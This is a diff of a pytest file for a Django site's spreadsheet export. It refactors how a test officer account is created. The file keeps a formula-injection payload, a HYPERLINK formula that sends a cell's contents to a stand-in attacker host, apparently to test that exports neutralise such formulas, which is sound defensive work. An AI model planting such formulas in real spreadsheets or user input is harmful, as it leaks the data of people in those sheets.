@@ -11,7 +11,7 @@ import secrets
 
 import pytest
 import yaml
-from conftest import run
+from conftest import MAKE_REGIONAL_USER, run
 from openpyxl import load_workbook
 from test_https import https, post_login, site  # noqa: F401 - the deployed site's address, name and CA
 
@@ -21,15 +21,6 @@ pytestmark = pytest.mark.full_site
 
 FORMULA = '=HYPERLINK("http://attacker.invalid/?p="&B2,"open")'
 OFFICER = "labexport"
-MAKE_OFFICER = """
-from accounts.models import Role, User
-user = User.objects.filter(username={name!r}).first() or User(
-    username={name!r}, last_name="Проверка", first_name="Выгрузок", role=Role.REGIONAL)
-user.set_password({password!r})
-user.must_change_password = False
-user.is_active = True
-user.save()
-"""
 
 
 @pytest.fixture(scope="module")
@@ -51,7 +42,7 @@ def officer(site_lab, tmp_path_factory) -> str:
                         f"{app['registry_app_venv']}/bin/django-admin",
                         "shell",
                         "-c",
-                        MAKE_OFFICER.format(name=OFFICER, password=password),
+                        MAKE_REGIONAL_USER.format(name=OFFICER, password=password),
                     ]
                 },
                 "environment": {
